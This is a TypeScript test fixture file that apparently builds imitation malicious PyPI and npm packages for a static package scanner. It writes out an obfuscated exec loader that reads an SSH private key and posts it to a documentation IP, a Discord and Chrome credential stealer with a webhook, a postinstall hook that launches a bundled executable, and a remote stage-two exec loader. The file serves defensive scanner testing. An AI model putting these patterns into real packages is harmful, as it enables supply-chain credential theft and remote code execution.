// Imitation malware for the static pass (#20): each reads like a real campaign's package but
// targets only documentation addresses and `.example` names, and carries no working payload.
// Layers are built here at test time, so the repository holds no opaque blob.
import { deflateSync } from 'node:zlib';

export interface FixtureFiles {
  name: string;
  version: string;
  /** Package-relative path → content. */
  files: Record<string, string | Buffer>;
}

/** The payload the obfuscated setup.py hides: it dies on a module that is not installed. */
export const HIDDEN_PAYLOAD = [
  'import browser_cookie_vault  # not installed anywhere: the payload dies here',
  'import os, urllib.request',
  "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()",
  "urllib.request.urlopen('http://203.0.113.50/collect', key.encode())",
  '',
].join('\n');

/** `_ = lambda __: zlib(base64(reversed))` then `exec(_(blob))`: the pyobfuscate-style layering. */
export function obfuscatedSetupPy(name = 'pyobf-demo'): FixtureFiles {
  const blob = Buffer.from(deflateSync(Buffer.from(HIDDEN_PAYLOAD)).toString('base64')).reverse().toString('latin1');
  const setup = [
    'from setuptools import setup',
    `_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'${blob}'))`,
    `setup(name='${name}', version='1.0.0', py_modules=[])`,
    '',
  ].join('\n');
  return { name, version: '1.0.0', files: { 'setup.py': setup } };
}

/** Windows-only stealer: Discord and Chrome paths under APPDATA, a webhook; on Linux it dies at import. */
export function windowsStealer(name = 'wincred-demo'): FixtureFiles {
  const init = [
    'import os, json, urllib.request',
    "if os.name == 'nt':",
    '    import winreg',
    '    from ctypes import windll',
    "ROAMING = os.getenv('APPDATA')",
    "WEBHOOK = 'https://hooks.discord.example/api/webhooks/123456789012345678/imitation-token-abcdefghijklmnop'",
    'TARGETS = [',
    "    os.path.join(ROAMING, 'discord', 'Local Storage', 'leveldb'),",
    "    os.path.join(ROAMING, 'Google', 'Chrome', 'User Data', 'Default', 'Login Data'),",
    ']',
    'def send(found):',
    "    urllib.request.urlopen(WEBHOOK, json.dumps({'content': found}).encode())",
    '',
  ].join('\n');
  const setup = `from setuptools import setup\nsetup(name='${name}', version='1.0.0', packages=['${name.replace(/-/g, '_')}'])\n`;
  return { name, version: '1.0.0', files: { 'setup.py': setup, [`${name.replace(/-/g, '_')}/__init__.py`]: init } };
}

/** A DOS/PE header and nothing that runs: enough for magic bytes, not a program. */
export function fakePe(): Buffer {
  const b = Buffer.alloc(256);
  b.write('MZ', 0, 'latin1');
  b.writeUInt32LE(0x80, 0x3c);
  b.write('PE\0\0', 0x80, 'latin1');
  b.write('vetbox imitation: not a program', 0x90, 'latin1');
  return b;
}

/** npm postinstall that launches a bundled PE (it cannot run on Linux: the install fails). */
export function bundledPeLauncher(name = 'pe-launch-demo'): FixtureFiles {
  const install = [
    "const { spawn } = require('child_process');",
    "const path = require('path');",
    "const child = spawn(path.join(__dirname, 'bin', 'updater.exe'), ['--silent'], { detached: true, stdio: 'ignore' });",
    'child.unref();',
    '',
  ].join('\n');
  const pkg = { name, version: '1.0.0', main: 'index.js', scripts: { postinstall: 'node install.js' } };
  return { name, version: '1.0.0', files: { 'package.json': JSON.stringify(pkg, null, 2), 'index.js': 'module.exports = {};\n', 'install.js': install, 'bin/updater.exe': fakePe() } };
}

/** A loader: downloads text from a `.example` URL and exec()s it, at import. */
export function remoteLoader(name = 'remote-exec-demo'): FixtureFiles {
  const mod = name.replace(/-/g, '_');
  const init = [
    'import urllib.request',
    "STAGE2 = 'http://cdn.loader.example/stage2.py'",
    'exec(urllib.request.urlopen(STAGE2, timeout=5).read().decode())',
    '',
  ].join('\n');
  const setup = `from setuptools import setup\nsetup(name='${name}', version='1.0.0', packages=['${mod}'])\n`;
  return { name, version: '1.0.0', files: { 'setup.py': setup, [`${mod}/__init__.py`]: init } };
}

/** Writes a fixture as its ecosystem's archive: an sdist (`name-1.0.0/…`) or an npm tarball (`package/…`). */
export async function writeFixtureArchive(dir: string, fx: FixtureFiles, ecosystem: 'npm' | 'pypi'): Promise<string> {
  const { writeTarGz } = await import('../../../fetch/src/__fixtures__/archives.js');
  const root = ecosystem === 'npm' ? 'package' : `${fx.name}-${fx.version}`;
  const entries = Object.entries(fx.files).map(([f, content]) => ({ name: `${root}/${f}`, content }));
  if (ecosystem === 'pypi') entries.unshift({ name: `${root}/PKG-INFO`, content: `Metadata-Version: 2.1\nName: ${fx.name}\nVersion: ${fx.version}\n` });
  const file = `${dir}/${fx.name}-${fx.version}.${ecosystem === 'npm' ? 'tgz' : 'tar.gz'}`;
  await writeTarGz(file, entries);
  return file;
}
